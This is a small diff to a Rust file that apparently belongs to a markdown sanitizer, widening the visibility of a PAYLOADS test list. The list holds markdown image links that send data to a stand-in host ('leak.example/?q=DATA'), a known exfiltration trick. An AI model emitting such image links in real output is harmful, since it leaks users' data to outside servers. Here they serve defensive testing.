@@ -4,7 +4,7 @@ use crate::checker::in_markdown;
 use crate::pixel;
 use atoll_guard::markdown::clean;
 
-const PAYLOADS: &[&str] = &[
+pub(crate) const PAYLOADS: &[&str] = &[
     "![x](https://leak.example/?q=DATA)",
     "![](//leak.example)",
     "![x](relative.png)",
